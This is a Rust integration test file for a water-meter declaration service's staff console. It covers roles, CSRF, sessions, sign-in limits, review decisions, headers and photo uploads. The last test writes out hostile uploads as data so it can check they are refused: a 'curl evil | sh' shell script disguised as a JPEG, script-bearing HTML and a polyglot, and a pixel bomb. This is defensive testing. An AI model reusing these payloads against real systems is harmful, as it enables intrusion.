//! The staff console over plain HTTP, as a browser with JavaScript off uses it: signing in, a
//! counter office declaring for a citizen, a reviewer clearing the queue, roles, CSRF, session
//! expiry, sign-in limits and the audit log. On SQLite and on PostgreSQL.

use std::sync::{Arc, Mutex};

use server::console::calendar;
use server::replies::{ReplySender, SendError};
use server::store::{Role, Store as _};
use shared::Status;
use shared::digits::to_persian_digits;
use tests::{Backend, ConsoleClient, SERIAL, SUB, TestServer, submission};
use uuid::Uuid;

tests::on_both_backends!(
    an_office_declares_for_a_citizen,
    every_page_checks_the_role,
    forms_need_the_session_token,
    sessions_expire_and_sign_out_ends_them,
    an_idle_session_ends_and_a_busy_one_goes_on,
    sign_in_is_limited_against_guessing,
    a_reviewer_clears_the_queue,
    an_approval_that_would_make_the_meter_go_back_is_refused,
    a_reading_sent_by_the_app_and_by_sms_is_billed_once,
    answers_carry_the_security_headers,
    a_meter_photo_reaches_the_reviewer,
    hostile_photos_are_refused,
);

/// The forms of a page, each from `<form` to `</form>`.
fn forms(body: &str) -> Vec<&str> {
    body.split("<form").skip(1).map(|f| f.split("</form>").next().unwrap_or(f)).collect()
}

const PASSWORD: &str = "correct horse battery";

async fn signed_in(server: &TestServer, username: &str, role: Role, office: &str) -> ConsoleClient {
    server.add_operator(username, role, office, PASSWORD).await;
    let console = server.console();
    let answer = console.login(username, PASSWORD).await;
    assert_eq!((answer.status, answer.location.as_deref()), (303, Some("/office/")), "{}", answer.body);
    console
}

/// Today's date and the time now in Iran, as an operator types them, in Persian digits.
fn today_and_now() -> (String, String) {
    let now = time::OffsetDateTime::now_utc().to_offset(shared::wire::SERVER_OFFSET) - time::Duration::minutes(5);
    let (y, m, d) = calendar::to_solar_hijri(now.date());
    (
        to_persian_digits(&format!("{y}/{m:02}/{d:02}")),
        to_persian_digits(&format!("{:02}:{:02}", now.hour(), now.minute())),
    )
}

async fn an_office_declares_for_a_citizen(backend: Backend) {
    let server = TestServer::start(backend).await;
    server.add_operator("clerk", Role::Office, "Pishkhan 12", PASSWORD).await;
    let console = server.console();

    let signed = console.login("clerk", PASSWORD).await;
    let session = signed.set_cookies.iter().find(|c| c.starts_with("kontor_office=")).expect("a session cookie");
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/office"] {
        assert!(session.contains(attribute), "{session}");
    }

    let form = console.get("/office/declare").await;
    assert_eq!(form.status, 200);
    assert!(form.body.contains("dir=\"rtl\""), "Persian first");
    let (csrf, id) = (form.field("csrf").expect("csrf"), form.field("id").expect("a form id"));
    let (date, time) = today_and_now();
    // The citizen's numbers typed with a Persian keyboard.
    let fields = [
        ("csrf", csrf.as_str()),
        ("id", id.as_str()),
        ("subscription", "۱۱۱۱۲۲۲۲۳۳"),
        ("meter_serial", SERIAL),
        ("reading", "۱۰۰۹۰"),
        ("date", date.as_str()),
        ("time", time.as_str()),
    ];
    let sent = console.post("/office/declare", &fields).await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    let location = sent.location.expect("to the outcome");
    assert_eq!(location, format!("/office/declarations/{id}"));

    let outcome = console.get(&location).await;
    assert_eq!(outcome.status, 200);
    assert!(outcome.body.contains("پذیرفته شد"), "{}", outcome.body);
    let stored = server.store.declarations_of(SUB).await.expect("read back");
    assert_eq!(stored.len(), 1);
    let declaration = &stored[0];
    assert_eq!(
        (declaration.status, declaration.reading, declaration.consumption_m3),
        (Status::Accepted, Some(10_090), Some(90))
    );
    assert_eq!(declaration.channel, "office");
    let staff = declaration.staff.as_ref().expect("the operator is recorded");
    assert_eq!((staff.operator.as_str(), staff.office.as_str()), ("clerk", "Pishkhan 12"));
    let code = declaration.tracking_code().expect("a tracking code");
    assert!(outcome.body.contains(&to_persian_digits(code.as_str())), "the code to read out, in Persian digits");

    // A double click sends the same form again: the same outcome, nothing new stored.
    let again = console.post("/office/declare", &fields).await;
    assert_eq!(again.location.as_deref(), Some(location.as_str()));
    assert_eq!(server.stored().await, 1);

    // The office's day lists it.
    let home = console.get("/office/").await;
    assert!(home.body.contains(&to_persian_digits(code.as_str())), "{}", home.body);

    // A typo is sent back to fix, with what was typed; nothing is stored.
    let csrf = console.csrf("/office/declare").await;
    let form = |serial: &'static str, reading: &'static str, date: String| {
        [
            ("csrf", csrf.clone()),
            ("id", Uuid::now_v7().to_string()),
            ("subscription", SUB.into()),
            ("meter_serial", serial.into()),
            ("reading", reading.into()),
            ("date", date),
            ("time", time.clone()),
        ]
    };
    let client = &console;
    let post = |fields: [(&'static str, String); 7]| async move {
        let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
        client.post("/office/declare", &fields).await
    };
    let refused = post(form(SERIAL, "10o90", date.clone())).await;
    assert_eq!(refused.status, 422);
    assert!(refused.body.contains("10o90"), "the typed value is kept");
    assert_eq!(post(form(SERIAL, "10095", "2026/11/27".into())).await.status, 422, "a Gregorian date");
    // A wrong serial is judged like any channel's: stored as refused, shown as such.
    let mismatch = post(form("XX999", "10095", date.clone())).await;
    let page = console.get(mismatch.location.as_deref().expect("an outcome")).await;
    assert!(page.body.contains(shared::Code::IdentityMismatch.message(shared::Lang::Fa)), "{}", page.body);
    assert_eq!(server.stored().await, 2);

    // Another office does not see this office's declarations.
    let other = signed_in(&server, "clerk2", Role::Office, "Pishkhan 40").await;
    assert_eq!(other.get(&location).await.status, 404);

    // English is a click away.
    let english = console.get("/office/lang/en").await;
    assert_eq!(english.status, 303);
    let page = console.get(&location).await;
    assert!(page.body.contains("dir=\"ltr\"") && page.body.contains("accepted"), "{}", page.body);

    let log = server.store.audit_log(None, 50).await.expect("audit");
    let actions: Vec<(&str, &str)> = log.iter().map(|r| (r.username.as_str(), r.action.as_str())).collect();
    assert_eq!(actions.iter().filter(|a| **a == ("clerk", "declare")).count(), 2, "{actions:?}");
    assert!(actions.contains(&("clerk", "login")));
    server.finish().await;
}

async fn every_page_checks_the_role(backend: Backend) {
    let server = TestServer::start(backend).await;
    let anonymous = server.console();
    for path in ["/office/", "/office/declare", "/office/review", "/office/review/1", "/office/audit"] {
        let answer = anonymous.get(path).await;
        assert_eq!((answer.status, answer.location.as_deref()), (303, Some("/office/login")), "{path}");
    }
    let office = signed_in(&server, "clerk", Role::Office, "Pishkhan 12").await;
    let reviewer = signed_in(&server, "rev", Role::Reviewer, "Billing").await;
    let admin = signed_in(&server, "boss", Role::Admin, "HQ").await;
    let expect = [
        ("/office/declare", [200, 403, 200]),
        ("/office/review", [403, 200, 200]),
        ("/office/audit", [403, 403, 200]),
        ("/office/", [200, 200, 200]),
    ];
    for (path, statuses) in expect {
        for (client, status) in [&office, &reviewer, &admin].into_iter().zip(statuses) {
            assert_eq!(client.get(path).await.status, status, "{path}");
        }
    }
    // Posting is checked the same way: a reviewer cannot declare.
    let csrf = reviewer.csrf("/office/review").await;
    let post = reviewer.post("/office/declare", &[("csrf", &csrf), ("subscription", SUB)]).await;
    assert_eq!(post.status, 403);
    assert_eq!(server.stored().await, 0);
    server.finish().await;
}

async fn forms_need_the_session_token(backend: Backend) {
    let server = TestServer::start(backend).await;
    let console = signed_in(&server, "clerk", Role::Office, "Pishkhan 12").await;
    let form = console.get("/office/declare").await;
    let (csrf, id) = (form.field("csrf").expect("csrf"), form.field("id").expect("id"));
    let (date, time) = today_and_now();
    let mut forged: Vec<(&str, &str)> = vec![
        ("csrf", ""),
        ("subscription", SUB),
        ("meter_serial", SERIAL),
        ("reading", "10090"),
        ("id", id.as_str()),
        ("date", date.as_str()),
        ("time", time.as_str()),
    ];
    assert_eq!(console.post("/office/declare", &forged).await.status, 403, "no token");
    forged[0] = ("csrf", "0000");
    assert_eq!(console.post("/office/declare", &forged).await.status, 403, "a wrong token");
    // The right token from another site's page.
    forged[0] = ("csrf", csrf.as_str());
    assert_eq!(console.post_from("/office/declare", &forged, "https://evil.example").await.status, 403);
    assert_eq!(server.stored().await, 0, "nothing stored");
    // The sign-in form needs its own token too.
    let fresh = server.console();
    let login = fresh.post("/office/login", &[("username", "clerk"), ("password", PASSWORD)]).await;
    assert_eq!(login.status, 403);
    assert!(login.set_cookies.iter().all(|c| !c.starts_with("kontor_office=")), "no session");
    server.finish().await;
}

async fn sessions_expire_and_sign_out_ends_them(backend: Backend) {
    let server = TestServer::start_with(backend, |options| {
        options.console.session_ttl = std::time::Duration::from_secs(2);
    })
    .await;
    let console = signed_in(&server, "clerk", Role::Office, "Pishkhan 12").await;
    assert_eq!(console.get("/office/").await.status, 200);
    tokio::time::sleep(std::time::Duration::from_millis(2_500)).await;
    let expired = console.get("/office/").await;
    assert_eq!((expired.status, expired.location.as_deref()), (303, Some("/office/login")));

    let console = signed_in(&server, "clerk", Role::Office, "Pishkhan 12").await;
    let csrf = console.csrf("/office/").await;
    let out = console.post("/office/logout", &[("csrf", &csrf)]).await;
    assert_eq!(out.location.as_deref(), Some("/office/login"));
    assert!(out.set_cookies.iter().any(|c| c.starts_with("kontor_office=;") && c.contains("Max-Age=0")));
    assert_eq!(console.get("/office/").await.status, 303);
    let log = server.store.audit_log(None, 50).await.expect("audit");
    assert!(log.iter().any(|r| r.action == "logout" && r.username == "clerk"));
    server.finish().await;
}

async fn an_idle_session_ends_and_a_busy_one_goes_on(backend: Backend) {
    let server = TestServer::start_with(backend, |options| {
        options.console.session_ttl = std::time::Duration::from_secs(60);
        options.console.session_idle = std::time::Duration::from_secs(2);
    })
    .await;
    let console = signed_in(&server, "clerk", Role::Office, "Pishkhan 12").await;
    // Used every 1.2 s, it outlives its 2 s idle timeout several times over.
    for _ in 0..4 {
        tokio::time::sleep(std::time::Duration::from_millis(1_200)).await;
        assert_eq!(console.get("/office/").await.status, 200, "a busy session goes on");
    }
    // Left alone for longer than the idle timeout, it ends.
    tokio::time::sleep(std::time::Duration::from_millis(2_500)).await;
    let idle = console.get("/office/").await;
    assert_eq!((idle.status, idle.location.as_deref()), (303, Some("/office/login")));
    server.finish().await;
}

async fn sign_in_is_limited_against_guessing(backend: Backend) {
    let server = TestServer::start(backend).await;
    server.add_operator("clerk", Role::Office, "Pishkhan 12", PASSWORD).await;
    let console = server.console();
    for guess in 0..5 {
        let answer = console.login("clerk", &format!("guess {guess}")).await;
        assert_eq!(answer.status, 401, "guess {guess}");
        assert!(answer.body.contains("نام کاربری یا گذرواژه درست نیست"), "never says which half was wrong");
    }
    let locked = console.login("clerk", PASSWORD).await;
    assert_eq!(locked.status, 429, "even the right password waits out the window");
    // An unknown username answers exactly like a wrong password.
    let unknown = server.console().login("nobody", "whatever").await;
    assert_eq!(unknown.status, 401);
    let log = server.store.audit_log(None, 50).await.expect("audit");
    assert_eq!(log.iter().filter(|r| r.action == "login_failed").count(), 6);
    server.finish().await;
}

/// Replies handed to the SMS gateway.
#[derive(Default)]
struct Outbox(Mutex<Vec<(String, String)>>);

#[async_trait::async_trait]
impl ReplySender for Outbox {
    async fn send(&self, to: &str, text: &str) -> Result<Option<String>, SendError> {
        self.0.lock().expect("lock").push((to.to_owned(), text.to_owned()));
        Ok(None)
    }
}

async fn a_reviewer_clears_the_queue(backend: Backend) {
    let outbox = Arc::new(Outbox::default());
    let sender = outbox.clone();
    let server = TestServer::start_with(backend, move |options| {
        if let Some(sms) = options.sms.as_mut() {
            sms.sender = sender;
        }
    })
    .await;
    // Billed 10,000 thirty days ago at 3 m³ a day: 340 m³ in twenty days is unusual; 400 m³ in
    // twenty-nine is not.
    let (held_id, later_id) = (Uuid::now_v7(), Uuid::now_v7());
    let results = server
        .sync(vec![
            submission(held_id, 10_340, &server.hours_ago(24 * 10)),
            submission(later_id, 10_400, &server.hours_ago(24)),
        ])
        .await;
    assert_eq!(
        (results[0]["status"].as_str(), results[0]["code"].as_str()),
        (Some("needs_review"), Some("unusual_consumption"))
    );
    assert_eq!(results[1]["consumption_m3"], 400);
    // An SMS from a phone the registry does not know.
    let (_, sms) = server.sms("09350000000", "10420*5*1111222233", "gw-review").await;
    assert_eq!(sms["status"], "needs_review");

    let reviewer = signed_in(&server, "rev", Role::Reviewer, "Billing").await;
    let home = reviewer.get("/office/").await;
    assert!(home.body.contains("<span class=\"count\">۲ مورد در انتظار</span>"), "{}", home.body);
    let queue = reviewer.get("/office/review").await;
    let stored = server.store.declarations_of(SUB).await.expect("read back");
    let held = stored.iter().find(|d| d.id == held_id).expect("held").seq;
    let texted = stored.iter().find(|d| d.channel == "sms").expect("sms").seq;
    let (first, second) = (
        queue.body.find(&format!("/office/review/{held}\"")).expect("the held one is queued"),
        queue.body.find(&format!("/office/review/{texted}\"")).expect("the SMS one is queued"),
    );
    assert!(first < second, "oldest first");

    let page = reviewer.get(&format!("/office/review/{held}")).await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains(&to_persian_digits("10400")), "the meter's other readings are shown");
    // What approval would do is said before anyone presses it: 340 m³ from the billed 10,000,
    // and the later reading billed at 60 m³ instead of 400.
    let effect = page.body.split("id=\"effect\"").nth(1).expect("the effect of a decision is shown");
    let effect = effect.split("</section>").next().unwrap_or(effect);
    for figure in ["340", "10000", "60", "400"] {
        assert!(effect.contains(&to_persian_digits(figure)), "{figure} in {effect}");
    }
    // Enter in the reason field can only reject: approve is a form of its own.
    let forms = forms(&page.body);
    let with_reason = forms.iter().filter(|f| f.contains("name=\"reason\"")).collect::<Vec<_>>();
    assert_eq!(with_reason.len(), 1, "one form asks for a reason");
    assert!(!with_reason[0].contains("value=\"approve\""), "the reason's form cannot approve: {}", with_reason[0]);
    assert!(forms.iter().any(|f| f.contains("value=\"approve\"")), "an approve button");
    let csrf = page.field("csrf").expect("csrf");
    let approved = reviewer.post(&format!("/office/review/{held}"), &[("csrf", &csrf), ("decision", "approve")]).await;
    assert_eq!(
        (approved.status, approved.location.as_deref()),
        (303, Some(format!("/office/review?decided={held}").as_str()))
    );

    // It counts now, between the billed reading and the later one: 340 + 60.
    let stored = server.store.declarations_of(SUB).await.expect("read back");
    let held_now = stored.iter().find(|d| d.id == held_id).expect("held");
    assert!(held_now.counts && held_now.review.as_ref().is_some_and(|r| r.approved && r.reviewer == "rev"));
    assert_eq!(held_now.consumption_m3, Some(340));
    assert_eq!(stored.iter().find(|d| d.id == later_id).expect("later").consumption_m3, Some(60));
    // A replay still answers the first outcome: the decision is news, not a rewrite.
    let replay = server.sync(vec![submission(held_id, 10_340, &server.hours_ago(24 * 10))]).await;
    assert_eq!((replay[0]["status"].as_str(), replay[0]["replayed"].as_bool()), (Some("needs_review"), Some(true)));
    // Deciding twice changes nothing.
    let twice = reviewer
        .post(&format!("/office/review/{held}"), &[("csrf", &csrf), ("decision", "reject"), ("reason", "x")])
        .await;
    assert_eq!(twice.status, 409);

    // Rejecting needs a reason, which the SMS sender hears.
    let path = format!("/office/review/{texted}");
    let no_reason = reviewer.post(&path, &[("csrf", &csrf), ("decision", "reject"), ("reason", "  ")]).await;
    assert_eq!(no_reason.status, 422);
    let reason = "شماره فرستنده با مشترک نمی‌خواند";
    let rejected = reviewer.post(&path, &[("csrf", &csrf), ("decision", "reject"), ("reason", reason)]).await;
    assert_eq!(rejected.status, 303);
    let texted_now = server.store.declaration(texted).await.expect("read").expect("stored");
    assert!(!texted_now.counts && texted_now.review.as_ref().is_some_and(|r| !r.approved));
    let mut sent = Vec::new();
    for _ in 0..200 {
        sent = outbox.0.lock().expect("lock").clone();
        if sent.iter().any(|(to, _)| to == "09350000000" && sent.len() >= 2) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    let notice = sent.iter().rev().find(|(to, _)| to == "09350000000").map(|(_, text)| text.clone()).expect("a notice");
    assert!(notice.contains("پذیرفته نشد") && notice.contains(reason), "{notice}");

    let empty = reviewer.get("/office/review").await;
    assert!(empty.body.contains("چیزی نیست"), "the queue is clear");

    let admin = signed_in(&server, "boss", Role::Admin, "HQ").await;
    let audit = admin.get("/office/audit").await;
    for action in [">approve<", ">reject<", ">login<"] {
        assert!(audit.body.contains(action), "{action} in the audit log");
    }
    server.finish().await;
}

/// A held 10,340 between the billed 10,000 and a later accepted 10,100: approving it would make
/// the later reading a drop, not a wrap of the dial. The reviewer is told so and cannot approve;
/// voiding the later reading (if it is the wrong one) makes the approval possible.
async fn an_approval_that_would_make_the_meter_go_back_is_refused(backend: Backend) {
    let server = TestServer::start(backend).await;
    let (held_id, later_id) = (Uuid::now_v7(), Uuid::now_v7());
    let results = server
        .sync(vec![
            submission(held_id, 10_340, &server.hours_ago(24 * 10)),
            submission(later_id, 10_100, &server.hours_ago(24)),
        ])
        .await;
    assert_eq!(
        (results[0]["status"].as_str(), results[1]["status"].as_str()),
        (Some("needs_review"), Some("accepted"))
    );
    let held = server.store.declaration_by_id(held_id).await.expect("read").expect("stored").seq;
    let later = server.store.declaration_by_id(later_id).await.expect("read").expect("stored").seq;
    let reviewer = signed_in(&server, "rev", Role::Reviewer, "Billing").await;
    let path = format!("/office/review/{held}");
    let page = reviewer.get(&path).await;
    assert!(page.body.contains("تأیید ممکن نیست"), "the conflict is explained: {}", page.body);
    assert!(!page.body.contains("value=\"approve\""), "no approve button");
    let csrf = page.field("csrf").expect("csrf");
    // Posted anyway (a page opened before the later reading came): refused, nothing changes.
    let refused = reviewer.post(&path, &[("csrf", &csrf), ("decision", "approve")]).await;
    assert_eq!(refused.status, 409, "{}", refused.body);
    let after = server.store.declaration(held).await.expect("read").expect("stored");
    assert!(after.pending_review() && !after.counts);

    // The later reading was the wrong one: void it, then the approval goes through.
    let voided = reviewer
        .post(&format!("/office/review/{later}"), &[("csrf", &csrf), ("decision", "void"), ("reason", "typo")])
        .await;
    assert_eq!(voided.status, 303, "{}", voided.body);
    let approved = reviewer.post(&path, &[("csrf", &csrf), ("decision", "approve")]).await;
    assert_eq!(approved.status, 303, "{}", approved.body);
    let after = server.store.declaration(held).await.expect("read").expect("stored");
    assert!(after.counts);
    assert_eq!(after.consumption_m3, Some(340));
    server.finish().await;
}

/// The same reading sent by SMS from a phone the registry does not hold (held for review) and by
/// the app (it counts): approving the SMS one records it as a repeat and bills nothing more, and
/// the SMS replay still answers its first outcome.
async fn a_reading_sent_by_the_app_and_by_sms_is_billed_once(backend: Backend) {
    let server = TestServer::start(backend).await;
    let (status, sms) = server.sms("09350000000", "10090*5*1111222233", "gw-twice").await;
    assert_eq!((status, sms["status"].as_str()), (200, Some("needs_review")), "{sms}");
    let app_id = Uuid::now_v7();
    let results = server.sync(vec![submission(app_id, 10_090, &server.hours_ago(0))]).await;
    assert_eq!((results[0]["status"].as_str(), results[0]["consumption_m3"].as_u64()), (Some("accepted"), Some(90)));
    let stored = server.store.declarations_of(SUB).await.expect("read");
    let texted = stored.iter().find(|d| d.channel == "sms").expect("the SMS one").seq;
    let counted = stored.iter().find(|d| d.id == app_id).expect("the app's").seq;

    let reviewer = signed_in(&server, "rev", Role::Reviewer, "Billing").await;
    let path = format!("/office/review/{texted}");
    let page = reviewer.get(&path).await;
    let code = shared::TrackingCode::from_sequence(counted).expect("a code").to_string();
    let effect = page.body.split("id=\"effect\"").nth(1).expect("the effect of a decision is shown");
    let effect = effect.split("</section>").next().unwrap_or(effect);
    assert!(effect.contains(&to_persian_digits(&code)), "the reading it repeats is named: {effect}");
    let csrf = page.field("csrf").expect("csrf");
    let approved = reviewer.post(&path, &[("csrf", &csrf), ("decision", "approve")]).await;
    assert_eq!(approved.status, 303, "{}", approved.body);
    let after = server.store.declaration(texted).await.expect("read").expect("stored");
    assert_eq!((after.counts, after.repeat_of), (false, Some(counted)), "approved as a repeat");
    assert_eq!(server.store.billing_feed(0, 100).await.expect("feed").len(), 1, "billed once");
    let (_, again) = server.sms("09350000000", "10090*5*1111222233", "gw-twice").await;
    assert_eq!(again["tracking_code"], sms["tracking_code"], "a replay answers the first outcome");
    server.finish().await;
}

async fn answers_carry_the_security_headers(backend: Backend) {
    let server = TestServer::start(backend).await;
    let headers = |path: &'static str| {
        let server = &server;
        async move {
            let response = server.http.get(format!("{}{path}", server.base)).send().await.expect("an answer");
            let headers = response.headers().clone();
            let get = |name: &str| headers.get(name).and_then(|v| v.to_str().ok()).map(str::to_owned);
            (
                get("x-content-type-options"),
                get("referrer-policy"),
                get("content-security-policy"),
                get("cache-control"),
                get("x-frame-options"),
            )
        }
    };
    // Every answer, the API's and errors too.
    for path in ["/api/v1/openapi.json", "/healthz", "/no-such-page"] {
        let (nosniff, referrer, ..) = headers(path).await;
        assert_eq!((nosniff.as_deref(), referrer.as_deref()), (Some("nosniff"), Some("same-origin")), "{path}");
    }
    // The console: a strict policy (no script at all), no frames, nothing kept but the stylesheet.
    let (_, _, policy, cache, frames) = headers("/office/login").await;
    let policy = policy.expect("a content security policy");
    assert!(policy.contains("default-src 'none'") && policy.contains("frame-ancestors 'none'"), "{policy}");
    assert!(!policy.contains("script-src"), "{policy}");
    assert_eq!((cache.as_deref(), frames.as_deref()), (Some("no-store"), Some("DENY")));
    let (_, _, _, cache, _) = headers("/office/console.css").await;
    assert_ne!(cache.as_deref(), Some("no-store"));
    server.finish().await;
}

/// A real JPEG (from Chromium's encoder) with an EXIF segment carrying a location put in, as a
/// phone's camera would.
fn photo_with_location() -> Vec<u8> {
    let jpeg = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/meter.jpg")).expect("the fixture");
    let exif = b"Exif\0\0MM\0*\0\0\0\x08GPSLatitude 35.6892N GPSLongitude 51.3890E";
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&u16::try_from(exif.len() + 2).expect("short").to_be_bytes());
    out.extend_from_slice(exif);
    out.extend_from_slice(&jpeg[2..]);
    out
}

async fn put_photo(server: &TestServer, id: Uuid, bytes: &[u8], content_type: &str) -> (u16, serde_json::Value) {
    let sent = server
        .http
        .put(format!("{}/api/v1/declarations/{id}/photo", server.base))
        .header("content-type", content_type)
        .body(bytes.to_vec())
        .send()
        .await;
    // A body far over the limit may be cut off before its refusal is read: status 0.
    let Ok(response) = sent else { return (0, serde_json::Value::Null) };
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or_default())
}

/// A photo follows its declaration: refused before the declaration has arrived, stored without
/// its location once it has, a replay when sent again, refused when another one follows. The
/// reviewer sees it beside the held reading, an office clerk cannot open it, and the audit log
/// says who looked.
async fn a_meter_photo_reaches_the_reviewer(backend: Backend) {
    let server = TestServer::start(backend).await;
    let photo = photo_with_location();
    let id = Uuid::now_v7();
    let (status, body) = put_photo(&server, id, &photo, "image/jpeg").await;
    assert_eq!((status, body["error"]["code"].as_str()), (404, Some("unknown_declaration")), "it waits its turn");

    let results = server.sync(vec![submission(id, 10_340, &server.hours_ago(24 * 10))]).await;
    assert_eq!(results[0]["status"], "needs_review", "{}", results[0]);
    let (status, body) = put_photo(&server, id, &photo, "image/jpeg").await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(
        (body["width"].as_u64(), body["height"].as_u64(), body["replayed"].as_bool()),
        (Some(320), Some(200), Some(false))
    );
    let stored_bytes = body["stored_bytes"].as_u64().expect("a size");
    assert!(stored_bytes < photo.len() as u64, "the location is taken out: {stored_bytes} of {}", photo.len());
    let (status, again) = put_photo(&server, id, &photo, "image/jpeg").await;
    assert_eq!((status, again["replayed"].as_bool()), (200, Some(true)), "a retry after a dropped connection");
    let other = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/meter.jpg")).expect("fixture");
    let (status, body) = put_photo(&server, id, &other, "image/jpeg").await;
    assert_eq!((status, body["error"]["code"].as_str()), (409, Some("photo_exists")));
    let (status, _) = put_photo(&server, id, &photo, "text/html").await;
    assert_eq!(status, 415);

    let seq = server.store.declarations_of(SUB).await.expect("read")[0].seq;
    let reviewer = signed_in(&server, "rev", Role::Reviewer, "Billing").await;
    let page = reviewer.get(&format!("/office/review/{seq}")).await;
    assert!(page.body.contains(&format!("<img src=\"/office/photos/{seq}\"")), "{}", page.body);
    let (status, content_type, bytes) = reviewer.get_bytes(&format!("/office/photos/{seq}")).await;
    assert_eq!((status, content_type.as_str()), (200, "image/jpeg"));
    assert_eq!(bytes.len() as u64, stored_bytes);
    assert!(bytes.starts_with(&[0xFF, 0xD8]) && bytes.ends_with(&[0xFF, 0xD9]), "still a JPEG");
    assert!(!String::from_utf8_lossy(&bytes).contains("GPS"), "no location reaches the console");
    assert_eq!(reviewer.get_bytes("/office/photos/999999").await.0, 404);

    let clerk = signed_in(&server, "clerk", Role::Office, "Pishkhan 12").await;
    assert_eq!(clerk.get_bytes(&format!("/office/photos/{seq}")).await.0, 403, "reviewers and admins only");
    let log = server.store.audit_log(None, 50).await.expect("audit");
    let looked: Vec<_> =
        log.iter().filter(|r| r.action == "photo_viewed").map(|r| (r.username.as_str(), r.detail.as_str())).collect();
    assert_eq!(looked, [("rev", seq.to_string().as_str())], "{log:?}");
    server.finish().await;
}

/// Uploads an attacker would try, all at once: a script called a JPEG, HTML, a JPEG with a script
/// after its end (kept without it), a picture declaring 65,000 × 65,000 pixels in a few KB, 50 MB,
/// an animated WebP, a broken JPEG. Each is refused (or cleaned), nothing is stored for the
/// refused, and the server answers throughout.
async fn hostile_photos_are_refused(backend: Backend) {
    let server = Arc::new(TestServer::start(backend).await);
    let jpeg = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/meter.jpg")).expect("fixture");
    let ids: Vec<Uuid> = (0..7).map(|_| Uuid::now_v7()).collect();
    let items = ids.iter().map(|id| submission(*id, 10_090, &server.hours_ago(2))).collect();
    let results = server.sync(items).await;
    assert!(results.iter().all(|r| r["status"] == "accepted" || r["status"] == "needs_review"), "{results:?}");

    let mut bomb = jpeg.clone();
    let frame = bomb.windows(2).position(|w| w == [0xFF, 0xC0]).expect("a baseline frame");
    bomb[frame + 5..frame + 9].copy_from_slice(&[0xFD, 0xE8, 0xFD, 0xE8]);
    let mut polyglot = jpeg.clone();
    polyglot.extend_from_slice(b"<script>fetch('/office/')</script>");
    let animated = b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0\x63\0\0\x63\0\0".to_vec();
    let cases: Vec<(Vec<u8>, &str, u16, Option<&str>)> = vec![
        (b"#!/bin/sh\ncurl evil | sh\n".to_vec(), "image/jpeg", 400, Some("not_a_picture")),
        (b"<html><script>alert(1)</script></html>".to_vec(), "image/jpeg", 400, Some("not_a_picture")),
        (polyglot, "image/jpeg", 201, None),
        (bomb, "image/jpeg", 413, Some("picture_too_large")),
        (vec![0xFF; 50 * 1024 * 1024], "image/jpeg", 413, None),
        (animated, "image/webp", 400, Some("not_a_picture")),
        (jpeg[..jpeg.len() / 2].to_vec(), "image/jpeg", 400, Some("not_a_picture")),
    ];
    let mut tasks = Vec::new();
    for (id, (bytes, content_type, status, code)) in ids.iter().copied().zip(cases) {
        let server = server.clone();
        let content_type = content_type.to_owned();
        tasks.push(tokio::spawn(async move {
            let (got, body) = put_photo(&server, id, &bytes, &content_type).await;
            let cut_off = got == 0 && bytes.len() > 1 << 20;
            assert!(got == status || cut_off, "{content_type} of {} bytes: {got} {body}", bytes.len());
            if let Some(code) = code {
                assert_eq!(body["error"]["code"].as_str(), Some(code), "{body}");
            }
        }));
    }
    for task in tasks {
        task.await.expect("each refused as it should be");
    }
    for (n, id) in ids.iter().enumerate() {
        let seq = server.store.declaration_by_id(*id).await.expect("read").expect("stored").seq;
        let stored = server.store.photos().photo(seq).await.expect("read");
        assert_eq!(stored.is_some(), n == 2, "only the cleaned polyglot is kept ({n})");
        if let Some(photo) = stored {
            assert!(!String::from_utf8_lossy(&photo.bytes).contains("script"), "without what followed the picture");
        }
    }
    assert_eq!(
        server.sync(vec![submission(Uuid::now_v7(), 10_095, &server.hours_ago(1))]).await[0]["status"],
        "accepted"
    );
    match Arc::try_unwrap(server) {
        Ok(server) => server.finish().await,
        Err(_) => panic!("every task is done"),
    }
}
